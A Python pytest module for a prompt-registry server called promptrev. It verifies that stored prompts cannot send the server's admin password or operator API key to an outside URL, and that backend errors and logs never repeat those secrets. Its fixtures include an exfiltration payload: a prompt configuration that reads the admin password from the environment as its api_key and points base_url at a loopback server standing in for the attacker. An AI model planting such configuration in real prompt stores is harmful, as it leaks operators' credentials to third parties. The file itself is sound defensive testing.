"""Stored content never chooses the server's secrets or where they go (security, item 1).

Replayed against a real ``promptrev serve``: an editor saves a prompt whose
``model.configuration`` reads ``${env:PROMPTREV_ADMIN_PASSWORD}`` as its ``api_key`` and
points ``base_url`` at a server the attacker runs (here: a recording HTTP server on
loopback); a viewer then runs it through ``/v1/chat/completions``. The operator's own
model server is another small OpenAI-compatible server on loopback, configured in a
models file (PROMPTREV_MODELS) with its key in an environment variable.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from promptrev.config import Settings
from promptrev.errors import InvalidRequest

from ..conftest import csrf_token
from ..live import ADMIN_PASSWORD, ROOT, LiveServer, start_server

openai = pytest.importorskip("openai")

OPERATOR_KEY = "sk-operator-key-0123456789abcdef"
ANSWER = "the operator's model answers"


@dataclass
class Recorded:
    """One request a model server received."""

    method: str
    path: str
    headers: dict[str, str]  # names in lower case
    body: str


@dataclass
class ModelServer:
    """A small OpenAI-compatible server on loopback that records every request.

    ``/v1/chat/completions`` answers like a model; under ``/echo/`` it refuses with a 400
    whose message repeats the request's Authorization header and URL, as a hostile (or
    careless) server would.
    """

    httpd: ThreadingHTTPServer
    requests: list[Recorded] = field(default_factory=list)

    @property
    def url(self) -> str:
        """``http://127.0.0.1:PORT``."""
        return f"http://127.0.0.1:{self.httpd.server_port}"

    def seen(self) -> str:
        """Everything received, as text (paths, headers, bodies)."""
        return "\n".join(f"{r.method} {r.path} {r.headers} {r.body}" for r in self.requests)


def _model_server() -> ModelServer:
    server = ModelServer(ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler))

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args) -> None:  # keep the test output quiet
            pass

        def do_GET(self) -> None:
            self._record("")
            self._answer(404, {"error": {"message": "not here"}})

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
            self._record(body)
            if self.path.startswith("/echo/"):
                self._answer(400, {"error": {"message": (
                    f"unknown model; you sent Authorization: "
                    f"{self.headers.get('Authorization')} to {server.url}{self.path}")}})
            elif self.path.endswith("/chat/completions"):
                model = json.loads(body or "{}").get("model", "")
                self._answer(200, {
                    "id": "chatcmpl-1", "object": "chat.completion", "created": 0,
                    "model": model, "choices": [{
                        "index": 0, "finish_reason": "stop",
                        "message": {"role": "assistant", "content": ANSWER}}],
                    "usage": {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7}})
            else:
                self._answer(404, {"error": {"message": "not here"}})

        def _record(self, body: str) -> None:
            headers = {k.lower(): v for k, v in self.headers.items()}
            server.requests.append(Recorded(self.command, self.path, headers, body))

        def _answer(self, status: int, payload: dict) -> None:
            data = json.dumps(payload).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    server.httpd.RequestHandlerClass = Handler
    threading.Thread(target=server.httpd.serve_forever, daemon=True).start()
    return server


@dataclass
class Scene:
    """The live server, the two model servers, and a token per role."""

    live: LiveServer
    attacker: ModelServer
    operator: ModelServer
    editor: httpx.Client
    viewer: httpx.Client
    client: openai.OpenAI  # the official client, as the viewer


@pytest.fixture(scope="module")
def scene(tmp_path_factory) -> Iterator[Scene]:
    tmp = tmp_path_factory.mktemp("secrets")
    attacker, operator = _model_server(), _model_server()
    models = tmp / "models.yaml"
    models.write_text(
        f"configured:\n  backend: openai\n  name: op-model\n  base_url: {operator.url}/v1\n"
        "  api_key: ${env:OPERATOR_KEY}\n"
        f"echoing:\n  backend: openai\n  name: op-model\n  base_url: {operator.url}/echo/v1\n"
        "  api_key: ${env:OPERATOR_KEY}\n  max_retries: 0\n")
    live = start_server(tmp, workers=1, env={
        "PROMPTREV_MODELS": str(models), "OPERATOR_KEY": OPERATOR_KEY,
        "PROMPTREV_ALLOW_ENV": "PROMPT_MODEL", "PROMPT_MODEL": "configured",
        "OPENAI_LOG": "debug"})  # the client's own log lines go to the log file too
    live.cli("user", "add", "eve", "--role", "editor", "--password", "eve-password")
    live.cli("user", "add", "vic", "--role", "viewer")
    editor = httpx.Client(base_url=live.url + "/api/v1", timeout=60,
                          headers={"Authorization": f"Bearer {live.token('eve')}"})
    viewer_token = live.token("vic")
    viewer = httpx.Client(base_url=live.url, timeout=60,
                          headers={"Authorization": f"Bearer {viewer_token}"})
    client = openai.OpenAI(base_url=live.url + "/v1", api_key=viewer_token, max_retries=0,
                           timeout=60)
    yield Scene(live, attacker, operator, editor, viewer, client)
    editor.close()
    viewer.close()
    live.stop()
    for server in (attacker, operator):
        server.httpd.shutdown()
        server.httpd.server_close()


def _prompt(configuration: str) -> str:
    return ("---\nmodel:\n  api: chat\n  configuration:\n" + configuration +
            "  parameters:\n    max_tokens: 5\n---\nuser:\nHello there!\n")


def _exfiltrating(scene: Scene, name: str = "gpt-4o-mini") -> str:
    """The issue's prompt: the admin password as the key, sent to the attacker's URL."""
    return _prompt(f"    type: openai\n    name: {name}\n"
                   f"    base_url: {scene.attacker.url}/echo/v1\n"
                   "    api_key: ${env:PROMPTREV_ADMIN_PASSWORD}\n")


def _save(scene: Scene, name: str, text: str) -> None:
    base = scene.editor.get("/artifact", params={"ref": name})
    headers = {"If-Match": str(base.json()["version"])} if base.status_code == 200 else {}
    r = scene.editor.put("/artifact", params={"name": name}, headers=headers,
                         json={"text": text})
    assert r.status_code in (200, 201), r.text


def _chat(scene: Scene, model: str, **extra) -> httpx.Response:
    return scene.viewer.post("/v1/chat/completions",
                             json={"model": model, "messages": [], **extra})


def _assert_no_secret(text: str) -> None:
    assert ADMIN_PASSWORD not in text
    assert OPERATOR_KEY not in text


def test_a_prompt_cannot_send_the_admin_password_to_its_own_url(scene):
    _save(scene, "exfil", _exfiltrating(scene))
    with pytest.raises(openai.APIStatusError) as raised:
        scene.client.chat.completions.create(model="prompt:exfil", messages=[])
    assert 400 <= raised.value.status_code < 500
    _assert_no_secret(str(raised.value) + raised.value.response.text)
    for extra in ({}, {"stream": True}):
        r = _chat(scene, "prompt:exfil", **extra)
        assert 400 <= r.status_code < 500, r.text
        _assert_no_secret(r.text)
        error = r.json()["error"]
        assert error["code"] == "model_not_configured"
        # Clear: it names the fields that were ignored and how an operator configures one.
        for word in ("base_url", "api_key", "configured", "PROMPTREV_MODELS"):
            assert word in error["message"]
        assert scene.attacker.url not in r.text
    assert scene.attacker.requests == [], scene.attacker.seen()
    assert ADMIN_PASSWORD not in scene.live.log.read_text()


def test_the_same_prompt_naming_a_configured_model_runs_on_the_operators_connection(scene):
    _save(scene, "exfil-configured", _exfiltrating(scene, name="configured"))
    before = len(scene.operator.requests)
    answer = scene.client.chat.completions.create(model="prompt:exfil-configured",
                                                  messages=[])
    assert answer.choices[0].message.content == ANSWER
    raw = _chat(scene, "prompt:exfil-configured")
    assert raw.status_code == 200, raw.text
    warnings = " ".join(raw.json()["promptrev"]["warnings"])
    assert "base_url" in warnings and "api_key" in warnings and "ignored" in warnings
    _assert_no_secret(raw.text)
    received = scene.operator.requests[before:]
    assert len(received) == 2
    for request in received:
        assert request.path == "/v1/chat/completions"
        assert request.headers["authorization"] == f"Bearer {OPERATOR_KEY}"
        assert json.loads(request.body)["model"] == "op-model"
        assert ADMIN_PASSWORD not in str(request.headers) + request.body
    assert scene.attacker.requests == [], scene.attacker.seen()
    assert OPERATOR_KEY not in scene.live.log.read_text()


def test_env_reads_only_the_names_the_operator_allows(scene):
    # The password as the *model name* (a field a server does read) is refused by name.
    _save(scene, "env-name", _prompt(f"    type: openai\n    base_url: {scene.attacker.url}/v1\n"
                                     "    name: ${env:PROMPTREV_ADMIN_PASSWORD}\n"))
    r = _chat(scene, "prompt:env-name")
    assert 400 <= r.status_code < 500, r.text
    _assert_no_secret(r.text)
    error = r.json()["error"]
    assert error["code"] == "env_not_allowed"
    assert "PROMPTREV_ADMIN_PASSWORD" in error["message"]
    assert "PROMPTREV_ALLOW_ENV" in error["message"]
    assert scene.attacker.requests == [], scene.attacker.seen()
    # An allowed name resolves (PROMPT_MODEL=configured) and runs the configured model.
    _save(scene, "env-allowed", _prompt("    type: openai\n    name: ${env:PROMPT_MODEL}\n"))
    ok = _chat(scene, "prompt:env-allowed")
    assert ok.status_code == 200, ok.text
    assert ok.json()["choices"][0]["message"]["content"] == ANSWER
    assert ADMIN_PASSWORD not in scene.live.log.read_text()


def test_backend_errors_repeat_neither_the_key_nor_the_url(scene):
    _save(scene, "echoing", _prompt("    type: openai\n    name: echoing\n"))
    before = len(scene.operator.requests)
    r = _chat(scene, "prompt:echoing")
    assert 400 <= r.status_code < 600 and r.status_code != 500, r.text
    assert len(scene.operator.requests) == before + 1  # it did reach the operator's server
    assert scene.operator.requests[-1].headers["authorization"] == f"Bearer {OPERATOR_KEY}"
    message = r.json()["error"]["message"]
    assert "unknown model" in message  # the model server's reason is kept...
    _assert_no_secret(r.text)  # ...without the key it repeated
    assert scene.operator.url not in r.text
    assert OPERATOR_KEY not in scene.live.log.read_text()


def test_a_local_model_path_is_refused_without_looking_at_it(scene, tmp_path: Path):
    existing = tmp_path / "model"
    existing.mkdir()
    (existing / "config.json").write_text('{"model_type": "llama"}')
    missing = tmp_path / "no-such-model"
    answers = []
    for path in (existing, missing, Path("/")):
        _save(scene, "local-path", _prompt(f"    type: hf\n    name: {path}\n"))
        r = _chat(scene, "prompt:local-path")
        assert 400 <= r.status_code < 500, r.text
        assert r.json()["error"]["code"] == "model_not_configured"
        # The same answer whatever is (or is not) at that path.
        answers.append((r.status_code, r.json()["error"]["message"].replace(str(path), "P")))
    assert answers[0] == answers[1] == answers[2]
    assert "configured" in answers[0][1] and "PROMPTREV_MODELS" in answers[0][1]


def test_an_evaluation_started_on_the_server_follows_the_server_rules(scene):
    _save(scene, "exfil", _exfiltrating(scene))
    with httpx.Client(base_url=scene.live.url, timeout=60) as browser:
        form = browser.get("/login").text
        r = browser.post("/login", data={"name": "eve", "password": "eve-password",
                                         "csrf_token": csrf_token(form)})
        assert r.status_code == 302
        spec = ("name: exfil\ndataset: sentiment@1\nlimit: 2\nvariants:\n"
                "  - {name: a, prompt: exfil}\n  - {name: b, prompt: sentiment/zero-shot}\n"
                "scorers: [exact]\n")
        form = browser.get("/eval/new").text
        r = browser.post("/eval/new", data={"spec": spec, "csrf_token": csrf_token(form)})
        assert 400 <= r.status_code < 500, r.text[:2000]
        page = re.sub(r"\s+", " ", r.text)
        assert "base_url" in page and "PROMPTREV_MODELS" in page
        _assert_no_secret(page)
    assert scene.attacker.requests == [], scene.attacker.seen()
    assert ADMIN_PASSWORD not in scene.live.log.read_text()


# ---- the CLI on a user's own machine ------------------------------------------------
def _cli(registry: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if not k.startswith("PROMPTREV_")}
    return subprocess.run([sys.executable, "-m", "promptrev.cli", "--registry", str(registry),
                           *args], capture_output=True, text=True, cwd=ROOT, timeout=120,
                          env={**base, "PROMPTREV_AUTHOR": "Tester <t@example.org>", **env})


def test_the_cli_keeps_a_prompts_own_connection_unless_the_user_restricts_it(tmp_path):
    own = _model_server()
    try:
        key = "sk-users-own-key-abcdef0123"
        registry = tmp_path / "reg"
        assert _cli(registry, "init", env={}).returncode == 0
        file = tmp_path / "mine.prompty"
        file.write_text(_prompt(f"    type: openai\n    name: their-model\n"
                                f"    base_url: {own.url}/v1\n"
                                "    api_key: ${env:USERS_OWN_KEY}\n"))
        assert _cli(registry, "save", str(file), env={}).returncode == 0
        # The user's own machine: the prompt's base_url and ${env:} are used, as before.
        done = _cli(registry, "run", "mine", env={"USERS_OWN_KEY": key})
        assert done.returncode == 0, done.stderr
        assert done.stdout.strip() == ANSWER
        assert [r.headers["authorization"] for r in own.requests] == [f"Bearer {key}"]
        # PROMPTREV_ALLOW_ENV restricts the CLI too: the name is refused, its value unsaid.
        refused = _cli(registry, "run", "mine",
                       env={"USERS_OWN_KEY": key, "PROMPTREV_ALLOW_ENV": "OTHER_NAME"})
        assert refused.returncode == 5
        assert "USERS_OWN_KEY" in refused.stderr and "PROMPTREV_ALLOW_ENV" in refused.stderr
        assert key not in refused.stderr + refused.stdout
        assert len(own.requests) == 1
    finally:
        own.httpd.shutdown()
        own.httpd.server_close()


def test_allow_env_is_a_list_of_names():
    from promptrev.runner.trust import Trust

    assert Settings.from_env({}).allow_env is None
    assert Settings.from_env({"PROMPTREV_ALLOW_ENV": ""}).allow_env == ()
    assert Settings.from_env({"PROMPTREV_ALLOW_ENV": " A_1, B "}).allow_env == ("A_1", "B")
    with pytest.raises(InvalidRequest, match=r"PROMPTREV_ALLOW_ENV: '\*' is not"):
        Settings.from_env({"PROMPTREV_ALLOW_ENV": "A,*"})
    assert Trust.server(None).env_names == frozenset()  # a server: none unless listed
    assert Trust.local(None).env_names is None  # a user's machine: any unless listed
    assert Trust.local(()).env_names == frozenset()


def test_an_evaluation_cannot_name_a_local_embedding_model(scene, tmp_path: Path):
    existing = tmp_path / "minilm"
    existing.mkdir()
    (existing / "modules.json").write_text("[]")
    answers = []
    with httpx.Client(base_url=scene.live.url, timeout=60) as browser:
        form = browser.get("/login").text
        browser.post("/login", data={"name": "eve", "password": "eve-password",
                                     "csrf_token": csrf_token(form)})
        for path in (existing, tmp_path / "missing", Path("/etc")):
            spec = ("name: probe\ndataset: sentiment@1\nmodel: configured\nlimit: 1\n"
                    "variants:\n  - {name: a, prompt: sentiment/zero-shot}\n"
                    "  - {name: b, prompt: sentiment/few-shot}\n"
                    f"scorers:\n  - embedding: {{model: {path}}}\n")
            form = browser.get("/eval/new").text
            r = browser.post("/eval/new", data={"spec": spec, "csrf_token": csrf_token(form)})
            assert 400 <= r.status_code < 500, r.text[:2000]
            page = re.sub(r"\s+", " ", r.text)
            assert "is not a configured model" in page and "PROMPTREV_MODELS" in page
            error = re.search(r"embedding: model .*?PROMPTREV_MODELS", page).group(0)
            answers.append((r.status_code, error.replace(str(path), "P")))
    assert answers[0] == answers[1] == answers[2]
